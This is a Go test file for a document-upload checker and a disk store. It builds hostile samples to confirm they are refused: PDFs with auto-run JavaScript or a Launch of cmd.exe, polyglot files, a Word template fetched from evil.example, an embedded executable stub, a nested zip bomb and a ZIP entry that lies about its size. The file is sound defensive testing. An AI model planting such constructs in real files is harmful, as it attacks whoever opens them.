package files

import (
	"archive/zip"
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"portico/internal/portal"
)

// TestCheckHostileContents: what runs by itself, is two things at once, or unpacks without end.
func TestCheckHostileContents(t *testing.T) {
	t.Parallel()
	script := func(action string) []byte {
		return bytes.Replace(pdf(), []byte("<</Type/Catalog"), []byte("<</OpenAction"+action+"/Type/Catalog"), 1)
	}
	var nested []byte
	nested = zipped(t, map[string][]byte{"a": bytes.Repeat([]byte{0}, 1<<20)})
	for range 8 {
		nested = zipped(t, map[string][]byte{"a": nested, "b": nested})
	}
	for _, c := range []struct {
		what, name string
		body       []byte
		say        string
	}{
		{"a PDF with a script", "letter.pdf", script("<</S/JavaScript/JS(app.alert(1))>>"), "letter.pdf runs a program of its own when it is opened"},
		{"a PDF with an escaped name", "letter.pdf", script("<</S/Java#53cript/JS(app.alert(1))>>"), "runs a program of its own"},
		{"a PDF that starts a program", "letter.pdf", script("<</S/Launch/F(cmd.exe)>>"), "runs a program of its own"},
		{"a PDF with a script elsewhere that runs first", "letter.pdf", append(bytes.Replace(pdf(), []byte("<</Type/Catalog"), []byte("<</OpenAction 9 0 R/Type/Catalog"), 1),
			"\n9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF"...), "runs a program of its own"},
		{"a web page that is a PDF too", "letter.pdf", append([]byte("<html><script>alert(1)</script>"), pdf()...), "letter.pdf is two kinds of file at once"},
		{"a program that is a PDF too", "letter.pdf", append([]byte("MZ\x90\x00 program"), pdf()...), "is two kinds of file at once"},
		{"a ZIP that is a PDF too", "letter.pdf", append([]byte("PK\x03\x04"), pdf()...), "is two kinds of file at once"},
		{"a Word document with a program beside it", "plan.docx", append([]byte("MZ\x90\x00"), docx(t, mainPart, nil)...), "its content is a program"},
		{"a Word document that fetches its template", "plan.docx", docx(t, mainPart, map[string][]byte{"word/_rels/settings.xml.rels": []byte(
			`<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`)}), "fetches a template"},
		{"a Word document with a program inside", "plan.docx", docx(t, mainPart, map[string][]byte{"word/embeddings/oleObject1.bin": []byte("MZ\x90\x00program")}), "has a program inside"},
		{"parts that claim to be small", "plan.docx", lying(t), "is damaged"},
	} {
		begin := time.Now()
		_, err := Check(c.name, c.body, nil, 15*megabyte)
		if portal.CodeOf(err) != portal.Invalid || !strings.Contains(portal.SentenceOf(err), c.say) || time.Since(begin) > 5*time.Second {
			t.Errorf("%s: %v after %v, want %q", c.what, err, time.Since(begin), c.say)
		}
	}
	if _, err := Check("plan.docx", docx(t, mainPart, map[string][]byte{"word/embeddings/a.bin": nested}), nil, 15*megabyte); err != nil {
		t.Errorf("archives in archives are not unpacked and do no harm: %v", err)
	}
	good := bytes.Replace(pdf(), []byte("<</Type/Catalog"), []byte("<</OpenAction[3 0 R/Fit]/Type/Catalog"), 1)
	if _, err := Check("letter.pdf", good, nil, megabyte); err != nil {
		t.Errorf("a PDF that opens on a page: %v", err)
	}
	fields := append(pdf(), "\n9 0 obj<</AA<</C<</S/JavaScript/JS(event.value=1)>>>>>>endobj\n%%EOF"...)
	if _, err := Check("form.pdf", fields, nil, megabyte); err != nil {
		t.Errorf("a filled-in form that adds up its fields: %v", err)
	}
}

// lying is a Word package with a part of 2 MB whose head says that it has ten bytes.
func lying(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	body := bytes.Repeat([]byte{'a'}, 2<<20)
	w, err := z.CreateRaw(&zip.FileHeader{Name: "word/big.xml", Method: zip.Store, CompressedSize64: uint64(len(body)), UncompressedSize64: 10})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(body)
	for name, text := range map[string]string{"[Content_Types].xml": fmt.Sprintf(docxTypes, mainPart), "word/document.xml": "<w:document/>"} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(text))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestDiskReallyFull fills a disk of one megabyte: what does not fit is refused in words, leaves
// nothing, and there is room again once something goes.
func TestDiskReallyFull(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "small")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount("tmpfs", dir, "tmpfs", 0, "size=1m"); err != nil {
		fullByLimit(t) // no rights to mount: a limit on the size of files instead
		return
	}
	t.Cleanup(func() { syscall.Unmount(dir, 0) })
	d, err := NewDisk(dir)
	if err != nil {
		t.Fatal(err)
	}
	body := bytes.Repeat([]byte{1}, 600<<10)
	if err := d.Put(t.Context(), "first-key", body); err != nil {
		t.Fatal(err)
	}
	for range 3 {
		err := d.Put(t.Context(), "second-key", body)
		if portal.CodeOf(err) != portal.Unavailable || portal.SentenceOf(err) != sentenceFull {
			t.Errorf("a file that does not fit: %v", err)
		}
	}
	if names := kept(t, d); len(names) != 1 {
		t.Errorf("%q are kept, want the first", names)
	}
	if err := d.Delete(t.Context(), "first-key"); err != nil {
		t.Fatal(err)
	}
	if err := d.Put(t.Context(), "second-key", body); err != nil {
		t.Errorf("with room again: %v", err)
	}
}

// limited is set in the process that fullByLimit starts.
const limited = "PORTICO_TEST_FILE_LIMIT"

// fullByLimit runs the test of a limit in a process of its own, which it holds for.
func fullByLimit(t *testing.T) {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^TestDiskAtItsLimit$")
	cmd.Env = append(os.Environ(), limited+"="+t.TempDir())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v: %s", err, out)
	}
}

// TestDiskAtItsLimit is a part of TestDiskReallyFull where nothing can be mounted.
func TestDiskAtItsLimit(t *testing.T) {
	dir := os.Getenv(limited)
	if dir == "" {
		return // only in a process of its own
	}
	if err := syscall.Setrlimit(syscall.RLIMIT_FSIZE, &syscall.Rlimit{Cur: 64 << 10, Max: 64 << 10}); err != nil {
		t.Fatal(err)
	}
	d, err := NewDisk(filepath.Join(dir, "files"))
	if err != nil {
		t.Fatal(err)
	}
	if err := d.Put(t.Context(), "first-key", make([]byte, 200<<10)); portal.CodeOf(err) != portal.Unavailable {
		t.Errorf("beyond the limit: %v", err)
	}
	if names := kept(t, d); len(names) != 0 {
		t.Errorf("%q stay behind", names)
	}
}
